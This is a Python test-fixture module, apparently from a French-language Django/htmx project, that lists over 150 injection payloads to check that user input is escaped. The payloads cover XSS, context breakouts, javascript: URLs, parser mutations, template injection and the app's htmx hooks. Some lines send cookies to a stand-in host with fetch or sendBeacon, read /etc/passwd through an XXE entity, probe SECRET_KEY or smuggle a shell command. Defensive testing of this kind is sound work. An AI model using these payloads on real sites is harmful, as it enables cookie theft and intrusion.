"""Texts that would run, fetch or break out, if a page ever took what somebody typed for its own words.

A hundred and fifty and more, by family: what a browser would obey, what a template would, and what our own scripts
look for. `SHORT` are those that fit where little room is left.
"""

HANDLERS = [
    ("img src=x", "onerror"),
    ("img src=/static/rien.png", "onload"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("object data=x", "onerror"),
    ("iframe", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("div style=animation:a 1s", "onanimationstart"),
    ("div tabindex=0 autofocus", "onfocusin"),
    ("div", "onmouseover"),
    ("p", "onpointerenter"),
    ("a href=# autofocus", "onfocus"),
    ("button popovertarget=p autofocus", "onfocus"),
    ("form><input type=image src=x", "onerror"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x to=1", "onend"),
    ("math", "onclick"),
    ("dialog open", "onclose"),
    ("custom-element", "oncontentvisibilityautostatechange"),
    ("x", "onbeforecopy"),
]
TAGS = [f"<{tag} {handler}=alert({place})>" for place, (tag, handler) in enumerate(HANDLERS, start=1)]

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert`1`</script>",
    "<script src=//mal.exemple/x.js></script>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script type=module>alert(1)</script>",
    "<script type=importmap>{}</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>console.log('canari')</script>",
    "<script>console.error('canari')</script>",
    "<script>fetch('//mal.exemple/'+document.cookie)</script>",
    "<script>navigator.sendBeacon('//mal.exemple/')</script>",
    "<script>document.title='perdu'</script>",
    "<script>location='//mal.exemple/'</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
]

ENDINGS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onmouseover=`alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</text></svg><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</xmp><script>alert(1)</script>",
    "</p></blockquote></details><script>alert(1)</script>",
    '\\"><script>alert(1)</script>',
    "\u2028<script>alert(1)</script>",
    "</h1><h1>Un autre titre",
    "</main><main>Une autre page",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=javascript:alert(1)>Ouvrir</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>Ouvrir</a>",
    "<a href=//mal.exemple/ ping=//mal.exemple/>Ouvrir</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><button>Enregistrer</button></form>",
    "<button formaction=javascript:alert(1)>Enregistrer</button>",
    "<base href=//mal.exemple/>",
    "<meta http-equiv=refresh content='0;url=//mal.exemple/'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=stylesheet href=//mal.exemple/x.css>",
    "<link rel=prefetch href=//mal.exemple/>",
    "<img src=//mal.exemple/x.png>",
    "<img srcset='//mal.exemple/x.png 1x'>",
    "<picture><source srcset=//mal.exemple/x.png><img></picture>",
    "<video poster=//mal.exemple/x.png>",
    "<table background=//mal.exemple/x.png>",
    "<svg><a href=javascript:alert(1)><text y=20>Ouvrir</text></a></svg>",
    "<svg><image href=//mal.exemple/x.svg />",
    "<svg><use href=//mal.exemple/x.svg#a />",
    "<svg><foreignObject><iframe src=//mal.exemple/></foreignObject></svg>",
    "<math href=javascript:alert(1)>Ouvrir</math>",
    "<style>@import '//mal.exemple/x.css';</style>",
    '<p style="background:url(//mal.exemple/x.png)">Texte',
    "<p style=width:expression(alert(1))>Texte",
]

MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<p id="x"><![CDATA[<img src=x onerror=alert(1)>]]>',
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a\u200bhref=javascript:alert(1)>Ouvrir",
    "<img/src/onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<svg/onload=alert(1)//",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ request.user.password }}",
    "{% include 'base.html' %}",
    "{# rien #}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "{0.__class__.__init__.__globals__}",
    "{x.__class__}",
    "%(nom)s %s %n",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}",
    '{"value": "</script><script>alert(1)</script>"}',
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    '=HYPERLINK("//mal.exemple/")',
    "]]>]]&gt;",
    "$(touch /tmp/canari) `touch /tmp/canari`",
]

# What our own scripts and htmx act upon, if it ever came in as markup.
HOOKS = [
    "<p hx-get=/connexion/ hx-trigger=load>Texte",
    "<p hx-on:click='alert(1)'>Texte",
    "<p data-hx-get=//mal.exemple/ hx-trigger=load>Texte",
    "<form data-autosave=//mal.exemple/><p data-question=x><input name=x>",
    "<p data-live=//mal.exemple/>Texte",
    "<dialog open data-sign-in-again=//mal.exemple/><div data-sign-in-form></div></dialog>",
    "<button data-copy=canari>Copier</button>",
    "<button data-settle=mine data-settle-url=//mal.exemple/>Garder</button>",
    "<input name=csrfmiddlewaretoken value=vole>",
    "<img name=body><img name=cookie><img id=portail>",
    "<form name=document><input name=body></form>",
    "<a id=defaultView href=//mal.exemple/>Ouvrir</a>",
]

PAYLOADS = [*SCRIPTS, *TAGS, *ENDINGS, *ADDRESSES, *MUTATIONS, *TEMPLATES, *HOOKS]
SHORT = [one for one in PAYLOADS if len(one) <= 80]


def rolled(place, payloads=PAYLOADS):
    """All of them, another one first each time: what one would hide of the next, another order shows."""
    start = place * 7 % len(payloads)
    return [*payloads[start:], *payloads[:start]]


def tagged(name, place=0):
    """Each after the name of its field: on a page where every text holds them all, which one says them is seen."""
    return [f"{name} {one}" for one in rolled(place)]


def all_of(place, *, between="\n", name=""):
    """Every payload in one text, each time in another order. What has one line has no line break."""
    text = between.join(tagged(name, place) if name else rolled(place))
    return on_one_line(text) if between == " " else text


def on_one_line(text):
    return " ".join(text.split())
